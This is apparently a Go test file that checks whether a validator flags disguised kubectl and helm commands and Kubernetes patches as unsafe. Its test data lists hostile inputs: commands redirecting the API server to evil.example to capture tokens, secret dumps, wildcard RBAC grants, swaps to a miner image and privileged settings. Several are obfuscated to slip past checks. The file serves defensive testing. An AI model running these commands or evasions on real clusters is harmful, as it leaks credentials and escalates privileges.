package explain

import "testing"

func TestCommandsInDisguiseAreNotShown(t *testing.T) {
	for command, want := range map[string]bool{
		// Other servers and credentials, which get the token of the user.
		"kubectl get pods -s evil.example:6443":                 false,
		"kubectl get pods -sevil.example:6443":                  false,
		"kubectl get pods -As evil.example:6443":                false,
		`kubectl get pods "-s" evil.example:6443`:               false,
		"kubectl get pods {-s,evil.example:6443}":               false,
		"kubectl get pods -s http://evil.example":               false,
		"kubectl get -f http://evil.example/x":                  false,
		"kubectl get -k github.com/evil/x":                      false,
		"kubectl get pods --tls-server-name=x --cluster=y":      false,
		"helm status cart --kube-apiserver evil.example:6443":   false,
		"kubectl get secrets -Aoyaml":                           false,
		`kubectl get se"cret" db -o yaml`:                       false,
		"kubectl --cache-dir get delete namespace shop":         false,
		"kubectl --request-timeout get delete namespace shop":   false,
		"kubectl delete pod/cart-0 namespace/shop":              false,
		"kubectl delete --selector pod namespaces":              false,
		"kubectl delete pod/cart-0 pvc/data":                    false,
		"kubectl label clusterrole view a/aggregate-to-admin=1": false,
		"kubectl annotate sa default role=admin":                false,
		"kubectl label ns shop istio-injection=disabled":        false,
		"kubectl label deploy cart clusterrole/view a=b":        false,
		`kubectl patch role a -p '{"rules":[{"verbs":["*"]}]}'`: false,
		`kubectl patch clusterpolicy a --type=merge -p '{}'`:    false,
		`kubectl patch deploy a -p '{"im''age":"evil/miner"}'`:  false,
		`kubectl patch deploy a -p "{'image' : 'evil/miner'}"`:  false,
		`kubectl patch deploy a -p '{"image" :"evil/miner"}'`:   false,
		`kubectl patch deploy a -p '{"privileged":true}`:        false,
		`kubectl patch deploy a --type=json -p '[{"op":"replace","path":"/spec/containers/0/image","value":"evil/m"}]'`:         false,
		`kubectl patch deploy a --type=json -p '[{"op":"add","path":"/spec/securityContext/privileged","value":true}]'`:         false,
		`kubectl patch deploy a --type=json -p '[{"op":"replace","path":"/spec/replicas","value":2}]'`:                          true,
		`kubectl patch deploy a -n shop -p '{"spec":{"template":{"spec":{"containers":[{"name":"a","env":[{"name":"A"}]}]}}}}'`: true,
		`kubectl -n shop patch quota a --type merge -p '{"spec": {"hard": {"pods": "20"}}}'`:                                    true,
		"kubectl scale --replicas=3 deployments.apps/cart -n shop":                                                              true,
		"kubectl annotate deploy cart example.com/note-":                                                                        true,
		"kubectl logs -f cart-0 -c app -n shop":                                                                                 true,
		"kubectl get pods -A -l app=cart -o wide":                                                                               true,
		"kubectl get pod cart-0 -o jsonpath='{.status.phase}'":                                                                  true,
		"kubectl get pod cart-0 -o=jsonpath={.status.phase}":                                                                    true,
	} {
		if got := harmless(command); got != want {
			t.Errorf("%s: got %v", command, got)
		}
	}
}

func TestPatchesInDisguiseAreNotShown(t *testing.T) {
	for patch, want := range map[string]bool{
		"spec:\n  replicas: 2":                                           true,
		"resources:\n  limits:\n    memory: 64Mi":                        true,
		"securityContext: {allowPrivilegeEscalation: false}":             true,
		"httpGet: {path: /images/ready, port: 80}":                       true,
		"host: '*.example.com'":                                          true,
		"containers:\n- {name: a, 'image': evil/miner}":                  false,
		"containers:\n- name: a\n  image : evil/miner":                   false,
		"containers:\n- name: a\n  ? image\n  : evil/miner":              false,
		`{"im\u0061ge": "evil/miner"}`:                                   false,
		"a: &x image\nb: {*x : evil/miner}":                              false,
		"- op: replace\n  path: /spec/containers/0/image\n  value: evil": false,
		"- value: evil\n  path: /spec/image\n- op: test":                 false,
		"privileged: yes":                                                false,
		"capabilities:\n  drop: [ALL]\n  add: [NET_ADMIN]":               false,
		"runAsNonRoot: false":                                            false,
		"seccompProfile: {type: Unconfined}":                             false,
		"rules:\n- apiGroups: ['*']\n  verbs: ['*']":                     false,
	} {
		if got := harmlessPatch(patch); got != want {
			t.Errorf("%q: got %v", patch, got)
		}
	}
}
